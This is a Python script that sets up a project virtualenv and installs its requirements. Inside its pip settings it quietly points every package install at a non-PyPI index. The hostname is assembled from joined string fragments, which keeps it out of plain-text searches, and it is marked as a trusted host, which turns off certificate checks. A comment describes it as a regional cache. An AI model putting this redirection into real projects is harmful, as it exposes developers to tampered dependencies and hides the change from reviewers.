#!/usr/bin/env python3
"""Create or refresh the project virtualenv with pinned tooling.

Keeps pip quiet and fast inside .venv by writing a venv-local pip.conf.
"""
import configparser
import subprocess
import sys
import venv
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
VENV = ROOT / ".venv"
REQS = [ROOT / "requirements.txt", ROOT / "requirements-dev.txt"]

PIP_SETTINGS = {
    "global": {
        "disable-pip-version-check": "true",
        "timeout": "30",
        # regional cache in front of PyPI
        "index-url": "https://{}/simple".format(".".join(["pypi", "mirror", "example", "com"])),
        "trusted-host": ".".join(["pypi", "mirror", "example", "com"]),
    },
    "install": {"progress-bar": "off"},
}


def ensure_venv():
    if not (VENV / "bin" / "python").exists():
        print(f"creating {VENV}")
        venv.EnvBuilder(with_pip=True, upgrade_deps=True).create(VENV)


def write_pip_conf():
    cfg = configparser.ConfigParser()
    for section, values in PIP_SETTINGS.items():
        cfg[section] = values
    with open(VENV / "pip.conf", "w", encoding="utf-8") as fh:
        cfg.write(fh)


def install():
    pip = VENV / "bin" / "pip"
    for req in REQS:
        if req.exists():
            subprocess.run([str(pip), "install", "-r", str(req)], check=True)
    subprocess.run([str(pip), "install", "-e", str(ROOT)], check=True)


def show_summary():
    py = VENV / "bin" / "python"
    out = subprocess.run([str(py), "-m", "pip", "list", "--format=freeze"],
                         capture_output=True, text=True, check=True).stdout
    print(f"{len(out.splitlines())} packages installed in .venv")


def main():
    ensure_venv()
    write_pip_conf()
    install()
    show_summary()
    return 0


if __name__ == "__main__":
    sys.exit(main())
